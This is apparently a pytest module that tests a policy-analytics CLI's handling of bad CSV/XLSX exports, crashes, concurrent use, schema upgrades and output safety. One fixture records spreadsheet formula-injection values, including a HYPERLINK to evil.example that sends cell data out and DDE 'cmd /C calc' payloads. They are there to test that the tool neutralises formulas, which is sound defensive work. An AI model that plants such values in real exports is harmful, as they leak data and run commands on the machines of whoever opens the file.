"""Reliability (issue 6): bad input, faults and concurrent use, with nothing lost.

- The corpus: every file of tests/corpus/make_corpus.py through the real `load` command, each with the
  outcome it must get (CASES): refused whole with a plain message and the warehouse unchanged, or loaded
  with read = stored + rejected and each rejected row recorded with its reason. `check` gives the same
  figures and writes nothing.
- Crash safety: `load` killed with SIGKILL at four points of a large file.
- Concurrent use: a second writer or a reader while one writes fails fast ("in use"); readers share.
- Upgrades: older, unreadable and failing-migration warehouses; newer ones are in test_db.py.
- Output safety: export text escaped in the HTML report, `rejects --csv` neutralises formulas,
  everything the CLI writes readable by its owner only.

The docs' reliability page (docs/maintainers/reliability.md) is the table of what was tried and what each gets (a test keeps it complete).
"""

from __future__ import annotations

import csv
import importlib.util
import json
import os
import shutil
import signal
import stat
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from dataclasses import dataclass
from datetime import datetime
from html.parser import HTMLParser
from pathlib import Path

import duckdb
import pytest

from policy_analytics import cli, db, synthetic
from test_db import _contents  # every table's rows, read without changing the file
from test_load import INC, assert_balanced, incident_row

CORPUS_DIR = Path(__file__).resolve().parent / "corpus"
_spec = importlib.util.spec_from_file_location("make_corpus", CORPUS_DIR / "make_corpus.py")
make_corpus = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(make_corpus)

CLI = [sys.executable, "-m", "policy_analytics"]


@pytest.fixture(autouse=True)
def _plain_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv(db.DB_ENV, raising=False)
    monkeypatch.delenv("POLICY_ANALYTICS_CONFIG", raising=False)


# --- the corpus and what each file must get ------------------------------------------------------------


@dataclass(frozen=True)
class Refused:
    """Refused whole: exit 1, one line on stderr naming the file and saying WORDS, the warehouse unchanged."""

    words: str


@dataclass(frozen=True)
class Loaded:
    """Loaded: exit 0, READ = STORED + REJECTED in the load log, REJECTS exactly the (row, column, reason) recorded.

    CHECKS: (SQL over the rows of this load, where `?` is its load_id; the rows it must return).
    """

    read: int
    stored: int
    rejected: int
    rejects: tuple[tuple[int, str | None, str], ...] = ()
    checks: tuple[tuple[str, list[tuple]], ...] = ()


DATE = "is not a date this tool reads"
YEAR = "which cannot be right (expected 1990 to 2100, written with four digits)"
MORE = "the row has more fields than the header has columns"
FEWER = "the row has fewer fields than the header has columns"
YES_NO = "is not a yes/no value"

CASES: list[tuple[str, tuple[str, ...], Refused | Loaded]] = [
    # refused whole
    ("pdf-renamed.csv", (), Refused("is a PDF, not a CSV or XLSX export")),
    ("zip-renamed.csv", (), Refused("is a zip archive, not a CSV or XLSX export")),
    ("empty.csv", (), Refused("is empty: it has no header row and no data rows")),
    ("header-only.csv", (), Refused("has a header row but no data rows")),
    ("header-and-blank-rows.csv", (), Refused("has a header row but no data rows")),
    ("blank-lines-only.csv", (), Refused("has no header row on row 1")),
    ("utf16-le-bom.csv", (), Refused('is saved as UTF-16 ("Unicode text")')),
    ("utf16-be-bom.csv", (), Refused('is saved as UTF-16 ("Unicode text")')),
    ("utf16-no-bom.csv", (), Refused('is saved as UTF-16 ("Unicode text")')),
    ("xls-renamed.csv", (), Refused("is an old-style Excel workbook (.xls) or a password-protected file")),
    ("png-renamed.csv", (), Refused("is not a text file (it holds binary data)")),
    ("binary-after-8kb.csv", (), Refused("is neither UTF-8 nor Windows-1252 text")),
    ("web-page.csv", (), Refused("is a web page (HTML), not a CSV export")),
    ("tab-separated.csv", (), Refused("is separated by tabs")),
    ("column-twice.csv", (), Refused("the column severity appears twice on the header row (columns 5 and 6)")),
    ("column-twice-spelt-differently.csv", (), Refused("the column incident_id appears twice on the header row")),
    ("missing-required-columns.csv", (), Refused("is missing the required columns category, severity for incidents")),
    ("unknown-headers.csv", (), Refused("cannot tell which export this is from its header row")),
    ("no-column-names.csv", (), Refused("has no column names on its header row")),
    ("xlsx-no-rows.xlsx", (), Refused("has a header row but no data rows")),
    ("xlsx-empty.xlsx", (), Refused("the first sheet is empty")),
    ("xlsx-data-on-second-sheet.xlsx", (), Refused("the first sheet is empty. The export must be on the workbook's first sheet")),
    ("xlsx-truncated.xlsx", (), Refused("is damaged or incomplete")),
    ("xlsx-column-twice.xlsx", (), Refused("the column severity appears twice on the header row")),
    ("incidents-invalid-values.csv", ("--strict",), Refused("21 of 23 rows would be rejected")),
    ("duplicate-ids.csv", ("--kind", "breaches"), Refused("is missing the required columns breach_id, staff_ref, opened_at, rule")),
    # loaded, the bad rows rejected and recorded
    ("incidents-invalid-values.csv", (), Loaded(23, 2, 21, (
        (3, "incident_id", "incident_id is required but blank"),
        (4, "reported_at", "reported_at is required but blank"),
        (5, "reported_at", f"reported_at {DATE}"),
        (6, "posted_at", f"posted_at {DATE}"),
        (7, "removal_requested_at", f"removal_requested_at {DATE}"),
        (8, "removed_at", "removed_at is earlier than posted_at"),
        (9, "platform", "platform is required but blank"),
        (10, "category", "category is not a known category"),
        (11, "category", "category is required but blank"),
        (12, "severity", "severity is not a known severity"),
        (13, "severity", "severity is required but blank"),
        (14, "submitted_by", "submitted_by is not a known submitted by"),
        (15, "safeguarding", f"safeguarding {YES_NO}"),
        (16, "police_referral", f"police_referral {YES_NO}"),
        (17, "isp_escalation", f"isp_escalation {YES_NO}"),
        (18, "support_offered", f"support_offered {YES_NO}"),
        (19, "shares", "shares cannot be negative"),
        (20, "shares", "shares is not a whole number"),
        (21, "shares", "shares is not a whole number"),
        (22, "platforms_reached", "platforms_reached must be at least 1"),
        (23, "platforms_reached", "platforms_reached is not a whole number"),
    ), (("SELECT incident_id, safeguarding, police_referral, isp_escalation, support_offered, shares, "
         "platforms_reached, platform FROM incidents WHERE load_id = ? ORDER BY 1",
         [("G1", False, False, False, False, None, None, "Facebook"),
          ("G2", True, True, True, False, 4, 2, "Other")]),))),
    ("breaches-invalid-values.csv", (), Loaded(11, 2, 9, (
        (3, "breach_id", "breach_id is required but blank"),
        (4, "staff_ref", "staff_ref is required but blank"),
        (5, "opened_at", "opened_at is required but blank"),
        (6, "opened_at", f"opened_at {DATE}"),
        (7, "closed_at", "closed_at is earlier than opened_at"),
        (8, "rule", "rule is not a known category"),
        (9, "rule", "rule is required but blank"),
        (10, "impact", "impact is not a known impact"),
        (11, "outcome", "outcome is not a known outcome"),
    ), (("SELECT breach_id, outcome FROM breaches WHERE load_id = ? ORDER BY 1",
         [("G1", None), ("G2", "written_warning")]),))),
    ("acknowledgements-invalid-values.csv", (), Loaded(10, 3, 7, (
        (3, "staff_ref", "staff_ref is required but blank"),
        (4, "staff_group", "staff_group is required but blank"),
        (5, "staff_group", "staff_group is not a known staff group"),
        (6, "employment", "employment is not a known employment"),
        (7, "start_date", f"start_date {DATE}"),
        # row 8's leave_date 07/10/25 is a two-digit year: 2025, stored
        (9, "policy_version", "policy_version is required but blank"),
        (10, "acknowledged_at", f"acknowledged_at {DATE}"),
    ))),
    ("dates-impossible.csv", (), Loaded(10, 1, 9, tuple((r, "reported_at", f"reported_at {DATE}") for r in range(2, 11)),
                                         (("SELECT incident_id, reported_at FROM incidents WHERE load_id = ?",
                                           [("D11", datetime(2024, 2, 29))]),))),
    # 12/25/2025 can only be month first and no date only day first: 03/04/2025 would be misread, so refused
    ("dates-month-first.csv", (), Refused("writes reported_at month first (row 2 has '12/25/2025'")),
    ("dates-year-0025.csv", (), Loaded(6, 2, 4, (  # row 4, 07/10/25, is a two-digit year: 2025
        (2, "reported_at", f"reported_at has the year 25, {YEAR}"),
        (3, "reported_at", f"reported_at has the year 25, {YEAR}"),
        (5, "reported_at", f"reported_at has the year 1899, {YEAR}"),
        (6, "reported_at", f"reported_at has the year 2201, {YEAR}"),
    ))),
    ("duplicate-ids.csv", (), Loaded(4, 2, 2, (
        (2, "incident_id", "duplicate id in file: row 5 has the same incident_id and was kept"),
        (4, "incident_id", "duplicate id in file: row 5 has the same incident_id and was kept"),
    ), (("SELECT incident_id, severity, source_row FROM incidents WHERE load_id = ? ORDER BY 1",
         [("I1", "high", 5), ("I2", "low", 3)]),))),
    ("ids-with-spaces.csv", (), Loaded(5, 4, 1, (
        (2, "incident_id", "duplicate id in file: row 3 has the same incident_id and was kept"),
    ), (("SELECT incident_id, source_row FROM incidents WHERE load_id = ? ORDER BY 1",
         [("I1", 3), ("I2", 4), ("I3", 5), ("I4", 6)]),))),
    ("formula-text.csv", (), Loaded(9, 6, 3, (
        (8, "category", "category is not a known category"),
        (9, "severity", "severity is not a known severity"),
        (10, "shares", "shares is not a whole number"),
    ), (("SELECT incident_id, school, platform, platform_raw, description FROM incidents WHERE load_id = ? ORDER BY 1",
         # stored as written: the warehouse keeps the text; what the tool writes for Excel neutralises it
         [("=1+1", "Alder School", "Facebook", None, None),
          ("X1", "Alder School", "Facebook", None, '=HYPERLINK("http://evil.example/?q="&A1,"click me")'),
          ("X2", "@SUM(1+1)*cmd|'/C calc'!A0", "Facebook", None, None),
          ("X3", "Alder School", "Other", "=cmd|' /C calc'!A0", None),
          ("X4", "Alder School", "Facebook", None, "+1+1"),
          ("X5", "Alder School", "Facebook", None, "-2+3")]),))),
    ("xlsx-formula-and-error-cells.xlsx", (), Loaded(3, 2, 1, (
        (4, "severity", "severity is required but blank"),
    ), (("SELECT incident_id, shares FROM incidents WHERE load_id = ? ORDER BY 1",
         # known limitation: an error cell, and a formula Excel never calculated, read as blank
         [("F1", None), ("F2", None)]),))),
    ("mixed-line-endings.csv", (), Loaded(4, 3, 1, ((6, "severity", "severity is not a known severity"),),
                                           (("SELECT incident_id, source_row FROM incidents WHERE load_id = ? ORDER BY 1",
                                             [("I1", 2), ("I2", 3), ("I3", 4)]),))),
    ("unclosed-quote.csv", (), Loaded(2, 1, 1, ((3, "category", "a quote mark in this row is never closed"),))),
    ("text-after-closing-quote.csv", (), Loaded(2, 1, 1, ((2, "category", "a quoted field has text after its closing quote"),))),
    ("too-many-and-too-few-fields.csv", (), Loaded(4, 2, 2, ((3, None, MORE), (4, None, FEWER)),
                                                   (("SELECT incident_id FROM incidents WHERE load_id = ? ORDER BY 1",
                                                     [("I1",), ("I4",)]),))),
    ("ctrl-z-at-end.csv", (), Loaded(2, 1, 1, ((3, None, FEWER),))),
    ("field-1mb.csv", (), Loaded(2, 1, 1, ((3, "category", "category is not a known category"),),
                                 (("SELECT incident_id, length(description) FROM incidents WHERE load_id = ?",
                                   [("I1", 1_048_576)]),
                                  ("SELECT length(raw_value) FROM rejects WHERE load_id = ?", [(200,)])))),
    ("line-over-8mb.csv", (), Loaded(2, 1, 1, ((2, None, "the row is longer than this tool reads (8 MB)"),),
                                     (("SELECT length(raw_value) FROM rejects WHERE load_id = ?", [(200,)]),))),
    # odd but valid
    ("windows-1252.csv", (), Loaded(1, 1, 0, (), (("SELECT description FROM incidents WHERE load_id = ?",
                                                    [("Caf\u00e9 \u201cquote\u201d \u2013 \u00a35",)]),))),
    ("utf8-bom-semicolons.csv", (), Loaded(1, 1, 0)),
    ("xlsx-renamed.csv", (), Loaded(1, 1, 0)),
    ("csv-renamed.xlsx", (), Loaded(1, 1, 0)),
]
CASE_IDS = [name + "".join(f" {a}" for a in args) for name, args, _ in CASES]
PLAIN = {name: outcome for name, args, outcome in CASES if not args}  # each file as `load FILE` takes it


def test_every_corpus_file_has_an_expected_outcome() -> None:
    assert set(PLAIN) == set(make_corpus.FILES)
    assert len(make_corpus.FILES) >= 30


def test_the_docs_reliability_page_lists_every_case() -> None:
    page = (CORPUS_DIR.parents[1] / "docs" / "maintainers" / "reliability.md").read_text("utf-8")
    for name in make_corpus.FILES:
        assert f"`{name}`" in page, name


@pytest.fixture(scope="module")
def corpus(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """The corpus files, written once for the module."""
    return make_corpus.build(tmp_path_factory.mktemp("corpus"))


EARLIER = INC + incident_row("I0") + incident_row("I9", severity="bad")  # one row stored, one rejected


@pytest.fixture(scope="module")
def baseline(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A closed warehouse holding one earlier load (a stored row and a rejected one): copied by each test."""
    folder = tmp_path_factory.mktemp("baseline")
    (folder / "earlier.csv").write_text(EARLIER)
    assert cli.main(["load", str(folder / "earlier.csv"), "--db", str(folder / "w.duckdb")]) == 0
    return folder / "w.duckdb"


def _copy(baseline: Path, folder: Path) -> Path:
    target = folder / "w.duckdb"
    shutil.copyfile(baseline, target)
    return target


def _plain(err: str) -> None:
    """A user-facing error: no traceback, every line a policy-analytics message."""
    assert "Traceback" not in err
    assert all(line.startswith("policy-analytics: ") for line in err.splitlines()), err


@pytest.mark.parametrize(("name", "args", "expected"), CASES, ids=CASE_IDS)
def test_corpus_file_through_load(
    corpus: dict[str, Path], baseline: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str],
    name: str, args: tuple[str, ...], expected: Refused | Loaded,
) -> None:
    warehouse = _copy(baseline, tmp_path)
    before = _contents(warehouse)
    if isinstance(expected, Loaded) and 2 * expected.rejected > expected.read:
        args = (*args, "--accept-rejects")  # more than half rejected: refused without it (test_onboarding.py)
    status = cli.main(["load", str(corpus[name]), *args, "--db", str(warehouse)])
    out, err = capsys.readouterr()
    _plain(err)
    after = _contents(warehouse)
    if isinstance(expected, Refused):
        assert (status, out) == (1, "")
        assert err.startswith(f"policy-analytics: {name}") and expected.words in err, err
        assert err.count("\n") == 1
        assert after == before  # not a row, not a load-log entry, not a reject
        return
    assert (status, err) == (0, "")
    assert out.startswith(f"{name} (")
    assert f"read, {expected.stored} stored" in out and f", {expected.rejected} rejected." in out
    con = duckdb.connect(str(warehouse), read_only=True)
    try:
        (load_id, read, new, updated, rejected), = con.execute(
            "SELECT load_id, rows_read, rows_new, rows_updated, rows_rejected FROM loads WHERE file_name = ?", [name]
        ).fetchall()
        assert (read, new + updated, rejected) == (expected.read, expected.stored, expected.rejected)
        assert read == new + updated + rejected
        assert_balanced(con)
        recorded = con.execute(
            "SELECT row_number, column_name, reason FROM rejects WHERE load_id = ? ORDER BY row_number, column_name",
            [load_id],
        ).fetchall()
        assert [(r, c) for r, c, _ in recorded] == [(r, c) for r, c, _ in expected.rejects]
        for (_, _, reason), (_, _, words) in zip(recorded, expected.rejects):
            assert reason.startswith(words), (reason, words)
        for sql, rows in expected.checks:
            assert con.execute(sql, [load_id] * sql.count("?")).fetchall() == rows, sql
        # the earlier load is untouched
        assert con.execute("SELECT incident_id FROM incidents WHERE load_id = 1").fetchall() == [("I0",)]
    finally:
        con.close()


def test_check_gives_the_same_figures_and_writes_nothing(
    corpus: dict[str, Path], baseline: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    (tmp_path / "wh").mkdir()
    warehouse = _copy(baseline, tmp_path / "wh")
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(scratch))  # where a CSV's normalised copy goes
    os.utime(warehouse, ns=(1_000_000_000, 1_000_000_000))
    listing = sorted(p.name for p in warehouse.parent.iterdir())
    content = warehouse.read_bytes()
    status = cli.main(["check", *(str(corpus[n]) for n in PLAIN), "--db", str(warehouse)])
    out, err = capsys.readouterr()
    assert status == 1  # some files are refused
    _plain(err)
    for name, outcome in PLAIN.items():
        if isinstance(outcome, Refused):
            assert f"policy-analytics: {name}" in err and outcome.words in err, name
        else:
            rows = "row" if outcome.read == 1 else "rows"
            assert (f"{name} (" in out and f"): {outcome.read} {rows} read, {outcome.stored} would be stored "
                    f"({outcome.stored} new, 0 updated), {outcome.rejected} rejected." in out), name
    # nothing written: the file's bytes and time, no WAL or spill folder beside it, no copy left behind
    assert warehouse.read_bytes() == content
    assert warehouse.stat().st_mtime_ns == 1_000_000_000
    assert sorted(p.name for p in warehouse.parent.iterdir()) == listing
    assert list(scratch.iterdir()) == []


def test_the_real_command_over_the_whole_corpus(corpus: dict[str, Path], baseline: Path, tmp_path: Path) -> None:
    """One `policy-analytics load` process given every file: the refused ones do not stop the others."""
    warehouse = _copy(baseline, tmp_path)
    done = subprocess.run([*CLI, "load", *(str(corpus[n]) for n in PLAIN), "--accept-rejects", "--db", str(warehouse)],
                          capture_output=True, text=True, timeout=300)
    assert done.returncode == 1
    _plain(done.stderr)
    refused = [n for n, o in PLAIN.items() if isinstance(o, Refused)]
    assert len(done.stderr.splitlines()) == len(refused)
    con = duckdb.connect(str(warehouse), read_only=True)
    try:
        loaded = {name for (name,) in con.execute("SELECT file_name FROM loads WHERE load_id > 1").fetchall()}
        assert loaded == {n for n, o in PLAIN.items() if isinstance(o, Loaded)}
        assert_balanced(con)
    finally:
        con.close()


# --- crash safety: SIGKILL in the middle of a large load ------------------------------------------------

BIG_ROWS = 150_000  # above DuckDB's row group (122,880), so the upsert writes blocks before it commits


@pytest.fixture(scope="module")
def big(tmp_path_factory: pytest.TempPathFactory, baseline: Path) -> dict[str, Path]:
    """A large synthetic incidents export, and a warehouse holding one small load made before it."""
    folder = tmp_path_factory.mktemp("big")
    export = synthetic.generate_scale_exports(folder, BIG_ROWS)["incidents"]
    # Line endings as Excel writes "CSV" on Windows: the load makes a normalised copy, so every kill point,
    # the copy included, is reached. (A file DuckDB can read as it stands is read in place, not copied.)
    as_generated = export.read_bytes()
    export.write_bytes(as_generated.replace(b"\n", b"\r\n"))
    for other in ("breaches", "acknowledgements"):
        (folder / f"{other}.csv").unlink()
    return {"export": export, "before": baseline, "folder": folder, "copy_size": len(as_generated)}


def _start_load(export: Path, warehouse: Path, scratch: Path) -> subprocess.Popen:
    env = dict(os.environ, TMPDIR=str(scratch), PYTHONUNBUFFERED="1")
    return subprocess.Popen([*CLI, "load", str(export), "--db", str(warehouse)], env=env,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)


def _scratch_copy(scratch: Path, pid: int) -> Path | None:
    found = list(scratch.glob(f"policy-analytics-{pid}-*/export.csv"))
    return found[0] if found else None


def _size(path: Path | None) -> int:
    """The size of PATH, or -1 if it is not there (any more)."""
    try:
        return path.stat().st_size if path else -1
    except FileNotFoundError:
        return -1


def _wait_for(proc: subprocess.Popen, condition: Callable[[], bool], what: str, timeout: float = 120) -> None:
    deadline = time.monotonic() + timeout
    while not condition():
        assert proc.poll() is None, f"the load ended ({proc.returncode}) before {what}: {proc.stderr.read()[-500:]}"
        assert time.monotonic() < deadline, f"timed out waiting for {what}"
        time.sleep(0.002)


def _kill_point(point: str, proc: subprocess.Popen, warehouse: Path, scratch: Path, copy_size: int) -> None:
    """Wait until the load reaches POINT."""
    size = warehouse.stat().st_size
    if point == "copying":  # normalising the CSV into the scratch folder
        _wait_for(proc, lambda: _scratch_copy(scratch, proc.pid) is not None, "the copy started")
    elif point == "validating":  # DuckDB reading and checking every row in temporary tables
        _wait_for(proc, lambda: _size(_scratch_copy(scratch, proc.pid)) >= copy_size, "the copy finished")
        time.sleep(0.3)
        assert warehouse.stat().st_size == size, "already writing"
    elif point == "writing":  # the upsert writing blocks into the warehouse file, before its COMMIT
        _wait_for(proc, lambda: warehouse.stat().st_size > size, "the warehouse file grew")
    elif point == "committed":  # the summary printed: committed, now checkpointing as the file closes
        proc.stdout.readline()
    else:
        raise ValueError(point)


@pytest.mark.parametrize("point", ["copying", "validating", "writing", "committed"])
def test_sigkill_mid_load_leaves_the_warehouse_as_it_was(big: dict[str, Path], tmp_path: Path, point: str) -> None:
    warehouse = _copy(big["before"], tmp_path)
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    before = _contents(warehouse)
    proc = _start_load(big["export"], warehouse, scratch)
    try:
        _kill_point(point, proc, warehouse, scratch, big["copy_size"])
        proc.send_signal(signal.SIGKILL)
        proc.wait(timeout=60)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    # (only after the commit may the process have finished on its own before the signal reached it)
    assert proc.returncode in ((-signal.SIGKILL, 0) if point == "committed" else (-signal.SIGKILL,)), proc.returncode
    # The warehouse opens cleanly (to a reader first: a report or `indicators` after a crash) ...
    indicators = subprocess.run([*CLI, "indicators", "--term", "2025-26-autumn", "--json", "--db", str(warehouse)],
                                capture_output=True, text=True, timeout=120)
    assert indicators.returncode == 0, indicators.stderr
    after = _contents(warehouse)
    if point == "committed":
        # ... holding the whole load, as committed: every row read is stored or rejected
        assert after["incidents"] != before["incidents"]
        con = duckdb.connect(str(warehouse), read_only=True)
        try:
            assert con.execute("SELECT count(*), sum(rows_read) FROM loads").fetchone() == (2, 2 + BIG_ROWS)
            assert_balanced(con)
        finally:
            con.close()
    else:
        # ... exactly as before the killed load: the same rows, load log and rejects
        assert after == before
    # The next load works, and removes the copy of the export the killed one left in the temporary folder.
    nxt = tmp_path / "next.csv"
    nxt.write_text(INC + incident_row("N1"))
    done = subprocess.run([*CLI, "load", str(nxt), "--db", str(warehouse)], capture_output=True, text=True,
                          timeout=120, env=dict(os.environ, TMPDIR=str(scratch)))
    assert done.returncode == 0 and "1 stored (1 new, 0 updated)" in done.stdout, done.stderr
    assert list(scratch.iterdir()) == []
    if point == "writing":  # the blocks written before the kill were never committed: the whole file loads again
        again = subprocess.run([*CLI, "load", str(big["export"]), "--db", str(warehouse)], capture_output=True,
                               text=True, timeout=300)
        assert again.returncode == 0, again.stderr
        assert f"{BIG_ROWS} rows read" in again.stdout
        con = duckdb.connect(str(warehouse), read_only=True)
        try:
            assert_balanced(con)
            stored = con.execute("SELECT rows_new FROM loads WHERE file_name = 'incidents.csv'").fetchone()[0]
            assert con.execute("SELECT count(*) FROM incidents").fetchone()[0] == 1 + 1 + stored  # I0, N1 and these
        finally:
            con.close()


def _dead_pid() -> int:
    """The id of a process that has exited."""
    proc = subprocess.Popen([sys.executable, "-c", "pass"])
    proc.wait()
    return proc.pid


def test_leftovers_of_a_killed_process_are_removed_by_the_next_load(
    baseline: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """A kill leaves personal data in two places: the CSV's normalised copy and DuckDB's spill files."""
    warehouse = _copy(baseline, tmp_path)
    scratch = tmp_path / "scratch"
    monkeypatch.setattr(tempfile, "tempdir", str(scratch))
    dead, alive = _dead_pid(), os.getpid()
    for pid in (dead, alive):
        (scratch / f"policy-analytics-{pid}-x").mkdir(parents=True)
        (scratch / f"policy-analytics-{pid}-x" / "export.csv").write_text("personal data")
    (scratch / "policy-analytics-notapid").mkdir()  # not named by this release: left alone
    spill = tmp_path / "w.tmp"
    spill.mkdir()
    for name in (f"duckdb_temp_{dead}_0_owner", f"duckdb_temp_{dead}_0_storage_DEFAULT-0.tmp",
                 f"duckdb_temp_{alive}_0_owner", "notes.txt"):
        (spill / name).write_text("x")
    export = tmp_path / "i.csv"
    export.write_text(INC + incident_row("N1"))
    assert cli.main(["load", str(export), "--db", str(warehouse)]) == 0
    capsys.readouterr()
    assert sorted(p.name for p in scratch.iterdir()) == [f"policy-analytics-{alive}-x", "policy-analytics-notapid"]
    assert sorted(p.name for p in spill.iterdir()) == [f"duckdb_temp_{alive}_0_owner", "notes.txt"]


def test_ctrl_c_during_a_load_is_a_plain_message_and_changes_nothing(big: dict[str, Path], tmp_path: Path) -> None:
    warehouse = _copy(big["before"], tmp_path)
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    before = _contents(warehouse)
    proc = _start_load(big["export"], warehouse, scratch)
    _kill_point("validating", proc, warehouse, scratch, big["copy_size"])
    proc.send_signal(signal.SIGINT)
    out, err = proc.communicate(timeout=120)
    assert (proc.returncode, out) == (130, "")
    assert err == "policy-analytics: stopped; the warehouse is as it was before the file being loaded.\n"
    assert _contents(warehouse) == before
    assert list(scratch.iterdir()) == []  # the copy is removed on the way out


# --- concurrent use ------------------------------------------------------------------------------------

IN_USE = "is in use by another program"


def _cli(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str, float]:
    started = time.monotonic()
    status = cli.main(list(args))
    out, err = capsys.readouterr()
    return status, out, err, time.monotonic() - started


def test_a_second_writer_or_a_reader_during_a_load_fails_fast(
    big: dict[str, Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    warehouse = _copy(big["before"], tmp_path)
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    small = tmp_path / "small.csv"
    small.write_text(INC + incident_row("S1"))
    writer = _start_load(big["export"], warehouse, scratch)
    try:
        _kill_point("copying", writer, warehouse, scratch, big["copy_size"])  # it holds the warehouse now
        for args in (["load", str(small)], ["indicators", "--json"], ["rejects"], ["check", str(small)]):
            status, out, err, took = _cli(capsys, *args, "--db", str(warehouse))
            assert (status, out) == (1, ""), args
            assert IN_USE in err and "Try again when it has finished." in err, args
            _plain(err)
            assert took < 5, f"{args[0]} waited {took:.1f} s: it should fail at once"
        assert writer.poll() is None, "the first load finished too soon for this test to mean anything"
        # The WAL and the staged copy of the export, made under the CLI's umask, are private.
        for made in (Path(f"{warehouse}.wal"), _scratch_copy(scratch, writer.pid)):
            assert stat.S_IMODE(made.stat().st_mode) & 0o077 == 0, made
        assert stat.S_IMODE(_scratch_copy(scratch, writer.pid).parent.stat().st_mode) == 0o700
        out, err = writer.communicate(timeout=300)
    finally:
        if writer.poll() is None:
            writer.kill()
            writer.wait()
    assert writer.returncode == 0, err
    # The first load is whole, the refused second one left no trace; once free, the second works.
    con = duckdb.connect(str(warehouse), read_only=True)
    try:
        assert con.execute("SELECT file_name FROM loads ORDER BY load_id").fetchall() == [("earlier.csv",), ("incidents.csv",)]
        assert con.execute("SELECT count(*) FROM incidents WHERE incident_id = 'S1'").fetchone() == (0,)
        assert_balanced(con)
    finally:
        con.close()
    assert _cli(capsys, "load", str(small), "--db", str(warehouse))[0] == 0


HOLDER = """
import sys, time
from policy_analytics import db
con = db.connect(sys.argv[1], read_only=sys.argv[2] == "read")
print("ready", flush=True)
sys.stdin.read()
con.close()
"""


def test_readers_share_the_warehouse_while_nobody_writes(
    baseline: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    warehouse = _copy(baseline, tmp_path)
    # A notebook holding the warehouse open read-only, like an analyst's session ...
    holder = subprocess.Popen([sys.executable, "-c", HOLDER, str(warehouse), "read"],
                              stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout.readline().strip() == "ready"
        # ... and two `indicators` commands at the same moment: all three read.
        command = [*CLI, "indicators", "--term", "2025-26-autumn", "--json", "--db", str(warehouse)]
        readers = [subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True) for _ in range(2)]
        results = [r.communicate(timeout=120) for r in readers]
        assert [r.returncode for r in readers] == [0, 0], [e for _, e in results]
        assert json.loads(results[0][0]) == json.loads(results[1][0])
        status, _, err, _ = _cli(capsys, "rejects", "--db", str(warehouse))
        assert status == 0 and err == ""
        # A load while anyone reads is refused at once: it would need the file to itself.
        small = tmp_path / "small.csv"
        small.write_text(INC + incident_row("S1"))
        status, out, err, took = _cli(capsys, "load", str(small), "--db", str(warehouse))
        assert (status, out) == (1, "") and IN_USE in err and took < 5
    finally:
        holder.stdin.close()
        holder.wait(timeout=60)
    assert _contents(warehouse) == _contents(baseline)
    assert _cli(capsys, "load", str(small), "--db", str(warehouse))[0] == 0


# --- upgrades ----------------------------------------------------------------------------------------------
# A warehouse from a newer release is refused (test_db.test_a_warehouse_from_a_newer_release_is_refused).


def _set_version(warehouse: Path, value: str) -> None:
    con = duckdb.connect(str(warehouse))
    con.execute("UPDATE meta SET value = ? WHERE key = 'schema_version'", [value])
    con.close()


@pytest.mark.parametrize(("value", "words"), [
    ("0", "uses schema 0, which this release cannot upgrade. Load the exports again into a new warehouse"),
    ("one", "is not a warehouse this release can read (the schema version recorded in it, 'one', is not a number)"),
])
def test_an_older_or_unreadable_schema_is_refused_never_misread(
    baseline: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], value: str, words: str
) -> None:
    warehouse = _copy(baseline, tmp_path)
    _set_version(warehouse, value)
    before = _contents(warehouse)
    small = tmp_path / "small.csv"
    small.write_text(INC + incident_row("S1"))
    for args in (["load", str(small)], ["indicators"], ["rejects"], ["check", str(small)]):
        status, out, err, _ = _cli(capsys, *args, "--db", str(warehouse))
        assert (status, out) == (1, ""), args
        assert words in err and str(warehouse) in err, err
        _plain(err)
    assert _contents(warehouse) == before


def _damage(path: Path, how: str) -> None:
    content = path.read_bytes()
    if how == "cut to its first block":
        path.write_bytes(content[:4096])
    elif how == "cut in half":
        path.write_bytes(content[: len(content) // 2])
    elif how == "a block overwritten":
        path.write_bytes(content[:20_000] + b"\xff" * 100 + content[20_100:])
    elif how == "a garbage WAL beside it":
        Path(f"{path}.wal").write_bytes(bytes(range(256)) * 20)


@pytest.mark.parametrize(("how", "words"), [
    ("cut to its first block", "could not be opened"),
    ("cut in half", "could not be read"),
    ("a block overwritten", "is damaged (Corrupt database file"),
])
def test_a_damaged_warehouse_is_refused_plainly(
    baseline: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], how: str, words: str
) -> None:
    warehouse = _copy(baseline, tmp_path)
    _damage(warehouse, how)
    small = tmp_path / "small.csv"
    small.write_text(INC + incident_row("S1"))
    for args in (["load", str(small)], ["indicators"], ["rejects"]):
        status, out, err, _ = _cli(capsys, *args, "--db", str(warehouse))
        assert (status, out) == (1, ""), args
        assert f"The warehouse {warehouse} {words}" in err and "load the exports again into a new warehouse" in err
        _plain(err)


def test_a_garbage_wal_is_ignored(baseline: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A WAL that is not DuckDB's (a failed copy) fails its checksums and is not replayed: the rows are the same."""
    warehouse = _copy(baseline, tmp_path)
    before = _contents(warehouse)
    _damage(warehouse, "a garbage WAL beside it")
    assert _cli(capsys, "indicators", "--json", "--db", str(warehouse))[0] == 0
    assert _contents(warehouse) == before


